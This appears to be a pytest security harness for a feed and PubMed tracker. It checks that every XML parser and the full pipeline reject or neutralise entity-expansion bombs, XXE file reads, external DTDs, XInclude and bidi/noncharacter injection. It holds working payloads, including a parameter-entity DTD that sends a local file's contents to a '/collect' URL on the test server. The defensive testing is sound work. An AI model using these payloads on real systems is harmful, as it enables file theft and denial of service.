"""Harness: XML attacks through every XML entry point, and through the whole pipeline.

Billion laughs, quadratic blow-up, external entities naming a local file that holds a secret,
external DTDs and parameter entities fetched from the local HTTP server, XInclude, XML
noncharacters and bidi overrides (as references, escaped, and raw). Each attack
goes into every parser that reads XML (feeds as Frontiers and as generic RSS, efetch, esearch)
and must be rejected (ParseError) or neutralized (parsed with nothing expanded or fetched)
within 1 s and 50 MB. Then each goes through `Runner` against the local server: the source
either fails cleanly (recorded in runs and source_state) or stores neutralized text, the
server never sees a request for a DTD or an exfiltration URL, and the secret appears in no
column of any table (nor anywhere in the database file).
"""

from __future__ import annotations

import time
from dataclasses import dataclass

import pytest
from harnesskit import MB, MemoryPeak, find_in_database, longest_stored_text, stored_values
from builders import config_with
from httpserver import Reply

from tracker.errors import ParseError
from tracker.parse.feeds import parse_feed
from tracker.parse.pubmed import EsearchResult, parse_efetch, parse_esearch
from tracker.pipeline import Runner
from tracker.store import open_db
from tracker.textsafe import UNSAFE

SECRET = "zq7harnesssecret9x"  # one lower-case token, so full-text indexes would keep it whole
TIME_LIMIT = 1.0
MEMORY_LIMIT = 50 * MB
# Paths on the local server that only an attack would fetch.
TRAP_PATHS = ("/attack.dtd", "/public.dtd", "/pe.dtd", "/collect", "/xinclude")


@dataclass
class Attack:
    name: str
    doctype: str  # the DOCTYPE declaration (or "") with {root} for the root element's name
    ref: str  # what goes into the document's text fields
    one_line: bool = False  # XML declaration, DOCTYPE and root on one line


def attacks(secret_url: str, server: str) -> list[Attack]:
    laughs = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
    return [
        Attack("billion_laughs", f"<!DOCTYPE {{root}} [{laughs}]>", "&lol9;"),
        Attack("quadratic_blowup", f'<!DOCTYPE {{root}} [<!ENTITY a "{"x" * 100_000}">]>', "&a;" * 20_000),
        # Under expat's amplification limit (100x): feedparser used to expand it in full.
        Attack("quadratic_under_limits", f'<!DOCTYPE {{root}} [<!ENTITY a "{"x" * 250}">]>', "&a;" * 40_000,
               one_line=True),
        Attack("external_file_entity", f'<!DOCTYPE {{root}} [\n<!ENTITY xxe SYSTEM "{secret_url}">\n]>', "&xxe;"),
        Attack("external_file_entity_one_line", f'<!DOCTYPE {{root}} [<!ENTITY xxe SYSTEM "{secret_url}">]>',
               "&xxe;", one_line=True),
        Attack("external_dtd", f'<!DOCTYPE {{root}} SYSTEM "{server}/attack.dtd">', "&xxe;"),
        Attack("external_dtd_public", f'<!DOCTYPE {{root}} PUBLIC "-//Attack//DTD x//EN" "{server}/public.dtd">',
               "&xxe;"),
        Attack("parameter_entities",
               f'<!DOCTYPE {{root}} [\n<!ENTITY % file SYSTEM "{secret_url}">\n'
               f'<!ENTITY % remote SYSTEM "{server}/pe.dtd">\n%remote;\n%send;\n]>', "&exfil;"),
        Attack("parameter_entity_laughs",
               '<!DOCTYPE {root} [\n<!ENTITY % pe "<!ENTITY l0 \'lol\'>'
               + "".join(f"<!ENTITY l{i} '{f'&#38;l{i - 1};' * 10}'>" for i in range(1, 10))
               + '">\n%pe;\n]>', "&l9;"),
        Attack("xinclude", "", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret_url}" '
                               f'parse="text"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                               f'href="{server}/xinclude" parse="text"/>'),
        # Characters XML allows but no output may carry, and U+FFFE escaped once, so that a field
        # read as HTML decodes it (an Atom feed holding it does not parse).
        Attack("noncharacters", "", "&#xFDD0;&#x1FFFE;&#x202E;&#x2066;&#x85;&#x9B; &amp;#xFFFE;&amp;#xFFFF;"
                                    "&lt;i&gt;x&lt;/i&gt;&amp;#xFFFE;&amp;#x202E;\ufdd0\u202e"),
    ]


def _prolog(attack: Attack, root: str) -> str:
    doctype = attack.doctype.replace("{root}", root)
    sep = "" if attack.one_line else "\n"
    return f'<?xml version="1.0" encoding="utf-8"?>{sep}{doctype}{sep}'


def feed_body(attack: Attack, n: int = 1) -> bytes:
    ref = attack.ref
    items = "".join(
        f"<item><title>Ketamine and couples {i} {ref}</title>"
        f"<link>https://www.frontiersin.org/articles/10.3389/fpsyt.2026.90{i:04d}</link>"
        f"<guid>https://www.frontiersin.org/articles/10.3389/fpsyt.2026.90{i:04d}</guid>"
        f"<author>Ada {ref}</author><category>Review {ref}</category>"
        f"<dc:creator>Ben {ref}</dc:creator><dc:identifier>doi:10.3389/x{i}{ref}</dc:identifier>"
        f"<description>Introduction {ref} <![CDATA[couple therapy]]></description></item>"
        for i in range(n))
    return (_prolog(attack, "rss") +
            '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>'
            f"<title>Frontiers in Psychiatry {ref} | New</title><link>https://www.frontiersin.org/</link>"
            f"<description>Example {ref}</description>{items}</channel></rss>").encode()


def efetch_body(attack: Attack, pmids=("99100001",)) -> bytes:
    ref = attack.ref
    articles = "".join(
        f"<PubmedArticle><MedlineCitation><PMID Version=\"1\">{pmid}</PMID><Article>"
        f"<Journal><Title>Journal {ref}</Title><JournalIssue><PubDate><Year>2026</Year></PubDate></JournalIssue>"
        f"</Journal><ArticleTitle>Ketamine for couples {pmid} {ref}</ArticleTitle>"
        f"<Abstract><AbstractText Label=\"BACKGROUND\">Couple therapy <i>and</i> {ref}</AbstractText></Abstract>"
        f"<AuthorList><Author><LastName>Example {ref}</LastName><ForeName>Ada</ForeName></Author></AuthorList>"
        f"<PublicationTypeList><PublicationType>Journal Article {ref}</PublicationType></PublicationTypeList>"
        f"</Article><KeywordList><Keyword>ketamine {ref}</Keyword></KeywordList></MedlineCitation>"
        f"<PubmedData><ArticleIdList><ArticleId IdType=\"doi\">10.1000/{pmid}{ref}</ArticleId></ArticleIdList>"
        f"</PubmedData></PubmedArticle>" for pmid in pmids)
    return (_prolog(attack, "PubmedArticleSet") + f"<PubmedArticleSet>{articles}</PubmedArticleSet>").encode()


def esearch_body(attack: Attack, ids=("99100001",)) -> bytes:
    ref = attack.ref
    id_xml = "".join(f"<Id>{i}</Id>" for i in ids) + f"<Id>{ref}</Id>"
    return (_prolog(attack, "eSearchResult") +
            f"<eSearchResult><Count>{len(ids)}</Count><RetMax>{len(ids)}</RetMax><RetStart>0</RetStart>"
            f"<IdList>{id_xml}</IdList><QueryTranslation>ketamine {ref}</QueryTranslation>"
            f"<WarningList><OutputMessage>{ref}</OutputMessage></WarningList></eSearchResult>").encode()


ENTRY_POINTS = {
    "feed-frontiers": (feed_body, lambda body: parse_feed(body, kind="frontiers")),
    "feed-rss": (feed_body, lambda body: parse_feed(body, kind="rss")),
    "efetch": (efetch_body, parse_efetch),
    "esearch": (esearch_body, parse_esearch),
}


@pytest.fixture
def secret_file(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text(f"{SECRET}\n")
    return path


@pytest.fixture
def trap_server(http_server, secret_file):
    """The local server, with the DTDs an attack would fetch: each would pull in the secret."""
    url = secret_file.as_uri()
    dtd = f'<!ENTITY xxe SYSTEM "{url}">'.encode()
    http_server.route("/attack.dtd", Reply(200, dtd, {"Content-Type": "application/xml-dtd"}))
    http_server.route("/public.dtd", Reply(200, dtd, {"Content-Type": "application/xml-dtd"}))
    http_server.route("/pe.dtd", Reply(200, (
        f'<!ENTITY % send "<!ENTITY exfil SYSTEM \'{http_server.url}/collect?d=%file;\'>">').encode()))
    http_server.route("/collect", Reply(200, b""))
    http_server.route("/xinclude", Reply(200, SECRET.encode()))
    return http_server


def trapped(server) -> list[str]:
    return [f"{s.method} {s.path}" for s in server.requests if s.path in TRAP_PATHS]


ATTACK_NAMES = [a.name for a in attacks("file:///x", "http://127.0.0.1:9")]


@pytest.mark.parametrize("entry", ENTRY_POINTS)
@pytest.mark.parametrize("attack_name", ATTACK_NAMES)
def test_every_xml_entry_point_rejects_or_neutralizes_the_attack(attack_name, entry, trap_server, secret_file):
    attack = next(a for a in attacks(secret_file.as_uri(), trap_server.url) if a.name == attack_name)
    build, parse = ENTRY_POINTS[entry]
    body = build(attack)

    with MemoryPeak() as memory:
        started = time.monotonic()
        try:
            result = parse(body)
        except ParseError as exc:
            outcome, shown = "rejected", str(exc)
        else:
            outcome, shown = "parsed", repr(result)
        elapsed = time.monotonic() - started

    assert elapsed < TIME_LIMIT, f"{attack_name} via {entry}: {elapsed:.2f}s"
    assert memory.peak < MEMORY_LIMIT, f"{attack_name} via {entry}: {memory}"
    assert SECRET not in shown, f"{attack_name} via {entry} read the local file: {shown[:300]}"
    assert trapped(trap_server) == [], f"{attack_name} via {entry} fetched {trapped(trap_server)}"
    # Neutralized means nothing was expanded: the result is about as big as the document.
    assert len(shown) < 2 * len(body) + 10_000, f"{attack_name} via {entry} expanded to {len(shown)} chars"
    if attack_name in ("billion_laughs", "quadratic_blowup", "quadratic_under_limits", "parameter_entity_laughs"):
        assert "lollollol" not in shown and "x" * 1000 not in shown
    assert outcome in ("rejected", "parsed")
    if outcome == "parsed":  # nothing textsafe drops, in any text field
        texts = ([result.query_translation or "", *result.warnings, *result.ids] if isinstance(result, EsearchResult)
                 else [v for r in result.records for v in (r.title, r.abstract, r.journal or "", *r.authors,
                                                           *r.keywords, *r.publication_types)])
        assert not any(UNSAFE.search(t) for t in texts), f"{attack_name} via {entry}: {texts}"


def test_feeds_that_declare_entities_are_refused_whatever_their_encoding():
    """The quadratic blow-up feedparser used to expand (25 MB of title from a 300 kB feed, and
    unbounded in its fallback parser): refused in UTF-8, UTF-16, UTF-7, behind a comment."""
    subset = '<!DOCTYPE rss [<!ENTITY a "' + "x" * 250 + '">]>'
    doc = ('<rss version="2.0"><channel><title>T</title><link>https://example.org/</link><description>d'
           '</description><item><title>K' + "&a;" * 20_000 + '</title><link>https://example.org/1</link>'
           "</item></channel></rss>")
    bodies = {
        "utf-8": ('<?xml version="1.0"?>' + subset + doc).encode(),
        "utf-16": ('<?xml version="1.0" encoding="utf-16"?>\n' + subset + "\n" + doc).encode("utf-16"),
        "utf-7": b'<?xml version="1.0" encoding="utf-7"?>\n' + (subset + "\n" + doc).encode("utf-7"),
        "after a comment": ('<?xml version="1.0"?><!-- <a --><!-- x -->' + subset + doc).encode(),
        "malformed prolog": ('<?xml version="1.0"?>\nJUNK\n' + subset.replace("[", "[\n").replace("]>", "\n]>")
                             + "\n" + doc).encode(),
    }
    for name, body in bodies.items():
        started = time.monotonic()
        with pytest.raises(ParseError, match="declares XML entities"):
            parse_feed(body, kind="rss")
        assert time.monotonic() - started < TIME_LIMIT, name


def test_a_feed_naming_an_external_dtd_still_parses_without_fetching_it(trap_server):
    """RSS 0.91 feeds name Netscape's DTD: that is no reason to refuse them, nor to fetch it."""
    body = (f'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
            f'"{trap_server.url}/public.dtd">\n<rss version="0.91"><channel><title>T</title>'
            "<link>https://example.org/</link><description>d</description><item><title>Ketamine</title>"
            "<link>https://example.org/1</link></item></channel></rss>").encode()
    result = parse_feed(body, kind="rss")
    assert [r.title for r in result.records] == ["Ketamine"]
    assert trapped(trap_server) == []


# --- the whole pipeline ---------------------------------------------------------------------------

PMIDS = ("99100001", "99100002")


def _config(server):
    common = {"retries": 0, "timeout": 5.0, "requests_per_second": 1000}
    return config_with([
        {"name": "frontiers", "type": "frontiers", "url": server.url + "/feed/frontiers", **common},
        {"name": "rss", "type": "rss", "url": server.url + "/feed/rss", **common},
        # esearch attacked, efetch clean / esearch clean, efetch attacked
        {"name": "pubmed-esearch", "type": "pubmed", "query": "ketamine", "base_url": server.url + "/a/", **common},
        {"name": "pubmed-efetch", "type": "pubmed", "query": "couples", "base_url": server.url + "/b/",
         **common},
    ])


@pytest.mark.parametrize("attack_name", ATTACK_NAMES)
def test_no_attack_gets_local_file_content_into_the_database(attack_name, trap_server, secret_file, tmp_path):
    attack = next(a for a in attacks(secret_file.as_uri(), trap_server.url) if a.name == attack_name)
    clean = Attack("clean", "", "")
    trap_server.route("/feed/frontiers", Reply(200, feed_body(attack, 3)))
    trap_server.route("/feed/rss", Reply(200, feed_body(attack, 3)))
    trap_server.route("/a/esearch.fcgi", Reply(200, esearch_body(attack, PMIDS)))
    trap_server.route("/a/efetch.fcgi", Reply(200, efetch_body(clean, PMIDS)))
    trap_server.route("/b/esearch.fcgi", Reply(200, esearch_body(clean, PMIDS[:1])))
    trap_server.route("/b/efetch.fcgi", Reply(200, efetch_body(attack, PMIDS[:1])))
    db_path = tmp_path / "tracker.db"
    db = open_db(db_path)

    with MemoryPeak(trace=False) as memory:
        started = time.monotonic()
        outcomes = Runner(_config(trap_server), db, sleep=lambda s: None).run()
        elapsed = time.monotonic() - started

    assert elapsed < TIME_LIMIT * len(outcomes) + 2, elapsed
    assert memory.peak < MEMORY_LIMIT, str(memory)
    runs = {r["source"]: r for r in db.query("SELECT * FROM runs")}
    states = {s["source"]: s for s in db.query("SELECT * FROM source_state")}
    for outcome in outcomes:
        run = runs[outcome.source]
        if outcome.ok:
            assert run["status"] == "ok"
        else:  # a clear, recorded source error; never an unexpected exception
            assert run["status"] == "failed" and run["error"], run
            assert states[outcome.source]["last_error"] == outcome.error  # the short line; runs has it whole
            assert not run["error"].startswith("unexpected"), run["error"]
    db.conn.close()
    assert find_in_database(db_path, SECRET) == []
    assert longest_stored_text(db_path) < 200_000
    unsafe = [(table, column) for table, column, value in stored_values(db_path)
              if isinstance(value, str) and UNSAFE.search(value)]
    assert unsafe == [], f"{attack_name}: characters textsafe drops were stored in {unsafe}"
    assert trapped(trap_server) == []
